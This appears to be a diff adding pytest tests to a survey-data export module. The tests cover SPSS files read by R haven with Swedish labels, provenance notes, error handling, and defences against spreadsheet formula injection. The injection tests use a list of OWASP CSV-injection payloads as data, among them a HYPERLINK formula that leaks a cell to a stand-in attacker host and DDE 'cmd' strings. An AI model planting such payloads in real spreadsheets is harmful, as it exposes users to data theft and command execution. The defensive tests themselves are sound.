@@ -7,6 +7,7 @@ back from the written files with independent readers (pyreadstat, openpyxl, pyar
 from __future__ import annotations
 
 import json
+import zipfile
 from pathlib import Path
 
 import pandas as pd
@@ -263,3 +264,186 @@ def test_invalid_spss_name_is_a_user_error(scores, tmp_path):
     with pytest.raises(MognadError, match="could not write"):
         export_table(scores.rename(columns={"n": "antal svar"}), tmp_path / "scores.sav")
     assert list(tmp_path.iterdir()) == []
+
+
+# ------------------------------------------------------------------------------ SPSS for R haven
+DATA = Path(__file__).parent / "data"
+# > 80 bytes with Swedish letters: SPSS document lines hold 80 bytes, so this needs several lines
+HAVEN_PROVENANCE = {
+    "study": "studier/Åre kommun 2024",
+    "data_fingerprint": "f" * 64,
+    "codebook": "mognad-default-1",
+    "synthetic": False,
+    "parameters": {"what": "responses", "round": 2024},
+    "note": "Mätomgång 2024; svar från Äldreomsorg, Överförmyndarnämnden och Hemtjänst",
+}
+
+
+def haven_frame() -> pd.DataFrame:
+    """The respondent-level table behind tests/data/sav_haven.out (keep it unchanged)."""
+    cb = load_codebook()
+    frame = pd.DataFrame({
+        "org_id": ["0114", "0114", "1384"],
+        "round": [2024, 2024, 2024],
+        "respondent_id": ["p-7f3a", "p-91c2", "p-03bd"],
+        "unit": pd.array(["Äldreomsorg/Hemtjänst – Öst", "Kultur/Bibliotek", pd.NA],
+                         dtype="string"),
+        "role": pd.array(["förvaltningschef", pd.NA, "strateg"], dtype="string"),
+    })
+    for i, item in enumerate(cb.item_ids, start=1):
+        values = [(b + i) % 6 + 1 for b in (2, 4, 5)]
+        frame[item] = pd.array(values, dtype="Int64")
+    frame.loc[1, "q07"] = pd.NA  # don't know: system-missing, never 0
+    return frame
+
+
+def _read_haven_out(path: Path) -> dict:
+    out = {"vars": {}, "labels": {}, "rows": []}
+    for line in path.read_text("utf-8").splitlines():
+        tag, _, rest = line.partition("\t")
+        if tag == "var":
+            name, cls, label = rest.split("\t")
+            out["vars"][name] = (cls, label)
+        elif tag == "labels":
+            name, pairs = rest.split("\t")
+            out["labels"][name] = {float(k): v for k, v in (p.split("=", 1)
+                                                            for p in pairs.split("|"))}
+        elif tag == "row":
+            out["rows"].append(rest.split("\t"))
+        else:
+            out[tag] = rest
+    return out
+
+
+def _as_r_text(value) -> str:
+    if isinstance(value, float):
+        return "NA" if value != value else (str(int(value)) if value.is_integer() else repr(value))
+    return str(value)
+
+
+def test_sav_read_by_r_haven(tmp_path):
+    """The .sav is read by R haven with the same values, Swedish labels and provenance.
+
+    Reference: tests/data/sav_haven.out, written by ``Rscript tests/data/sav_haven.R`` (R 4.2.2,
+    haven 2.5.1) from this very file; when Rscript with haven is installed the test runs R again
+    and requires the same output. The expected labels are the codebook's texts.
+    """
+    import shutil
+    import subprocess
+
+    out = export_table(haven_frame(), tmp_path / "haven.sav", provenance=HAVEN_PROVENANCE)
+    ref = _read_haven_out(DATA / "sav_haven.out")
+    # what R saw, against independent sources: the frame above and the codebook YAML
+    assert ref["dim"] == "3\t35"
+    assert json.loads(ref["notes"]) == HAVEN_PROVENANCE
+    assert int(ref["n_notes"]) > 1  # split into SPSS's 80-byte document lines
+    assert ref["vars"]["q01"] == (
+        "haven_labelled", "… systematiska i att förbättra våra arbetssätt med digitalt stöd.")
+    assert ref["vars"]["unit"] == ("character", "Enhet")
+    assert ref["labels"]["q15"][1.0] == "Stämmer inte alls"
+    assert ref["labels"]["q15"][6.0] == "Stämmer helt"
+    assert ref["rows"][0][:5] == ["0114", "2024", "p-7f3a", "Äldreomsorg/Hemtjänst – Öst",
+                                  "förvaltningschef"]
+    assert ref["rows"][1][5 + 6] == "NA"  # q07 of p-91c2: missing, not 0
+    # what pyreadstat reads from the file written now is what R read
+    data, meta = pyreadstat.read_sav(out)
+    assert "".join(meta.notes) == ref["notes"]
+    assert meta.file_label == ref["file_label"]
+    for name, (_, label) in ref["vars"].items():
+        assert (meta.column_names_to_labels.get(name) or "") == label, name
+    assert meta.variable_value_labels == ref["labels"]
+    rows = [[_as_r_text(v) for v in row] for row in data.itertuples(index=False)]
+    assert rows == ref["rows"]
+    # and R itself, when it is installed
+    rscript = shutil.which("Rscript")
+    if rscript is None:
+        pytest.skip("Rscript not installed: compared with the stored R output only")
+    if subprocess.run([rscript, "-e", "library(haven)"], capture_output=True).returncode:
+        pytest.skip("R package haven not installed: compared with the stored R output only")
+    again = tmp_path / "haven.out"
+    subprocess.run([rscript, str(DATA / "sav_haven.R"), str(out), str(again)], check=True,
+                   env={"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", "LC_ALL": "C.UTF-8"})
+    assert again.read_text("utf-8") == (DATA / "sav_haven.out").read_text("utf-8")
+
+
+# ------------------------------------------------------------------------------ formula injection
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Öppna")',  # OWASP "CSV injection" examples
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",  # full-width equals sign
+]
+
+
+def hostile_frame() -> pd.DataFrame:
+    n = len(HOSTILE) + 2
+    return pd.DataFrame({
+        "org_id": ["0114"] * n,
+        "unit": [*HOSTILE, "-5", "Kultur/Bibliotek"],
+        "change": [-1.5, -2.0, 3.0, -0.25, 0.0, -7.0, 1.0, -5.0, 2.5],  # negative numbers
+        "n": pd.array([-3, 4, 5, 6, 7, 8, 9, 10, 11], dtype="Int64"),
+    })
+
+
+def test_csv_export_neutralises_formulas(tmp_path):
+    import csv
+
+    out = export_table(hostile_frame().rename(columns={"n": "=n"}), tmp_path / "t.csv")
+    with open(out, newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["org_id", "unit", "change", "'=n"]
+    units = [r[1] for r in rows[1:]]
+    # OWASP: prefix every cell starting with = + - @ tab CR with an apostrophe
+    assert units[: len(HOSTILE)] == ["'" + u for u in HOSTILE]
+    assert units[len(HOSTILE):] == ["-5", "Kultur/Bibliotek"]  # a plain number and plain text
+    assert [r[2] for r in rows[1:]] == ["-1.5", "-2.0", "3.0", "-0.25", "0.0", "-7.0", "1.0",
+                                        "-5.0", "2.5"]
+    assert rows[1][3] == "-3"
+    # a carriage return inside a cell is quoted (RFC 4180 line ends), so it cannot split a row
+    assert len(rows) == len(HOSTILE) + 3
+    assert b'"\'\r=1+1"' in out.read_bytes()
+
+
+def test_xlsx_export_writes_formulas_as_text(tmp_path):
+    import openpyxl
+
+    out = export_table(hostile_frame(), tmp_path / "t.xlsx",
+                       provenance={"study": "=cmd|' /C calc'!A0"})
+    with zipfile.ZipFile(out) as zf:
+        for name in zf.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
+    wb = openpyxl.load_workbook(out)
+    ws = wb["data"]
+    units = [ws.cell(row=r, column=2) for r in range(2, len(HOSTILE) + 4)]
+    assert all(c.data_type == "s" for c in units)
+    # the exact text (XML itself turns a carriage return into a line feed)
+    assert [c.value for c in units] == [h.replace("\r", "\n") for h in HOSTILE] + [
+        "-5", "Kultur/Bibliotek"]
+    changes = [ws.cell(row=r, column=3) for r in range(2, len(HOSTILE) + 4)]
+    assert all(c.data_type == "n" for c in changes)
+    assert changes[0].value == -1.5 and ws.cell(row=2, column=4).value == -3
+    assert wb["provenance"].cell(row=2, column=2).data_type == "s"
+
+
+def test_long_provenance_fits_spss_document_lines(scores, tmp_path):
+    provenance = {"study": "/data/studier/" + "Överförmyndare " * 20, "synthetic": True,
+                  "parameters": {"n_boot": 1000, "seed": 0, "peer": "org_type"}}
+    out = export_table(scores, tmp_path / "s.sav", provenance=provenance)
+    _, meta = pyreadstat.read_sav(out)
+    assert all(len(line.encode("utf-8")) <= 80 for line in meta.notes)
+    assert json.loads("".join(meta.notes)) == provenance
+
+
+def test_unwritable_target_is_a_user_error(scores, tmp_path):
+    locked = tmp_path / "locked"
+    locked.mkdir()
+    (locked / "file").write_text("x")
+    with pytest.raises(MognadError, match="cannot write"):
+        export_table(scores, locked / "file" / "scores.csv")  # a file where a folder must be
+    (locked / "scores.csv").mkdir()
+    with pytest.raises(MognadError, match="it is a folder"):
+        export_table(scores, locked / "scores.csv")
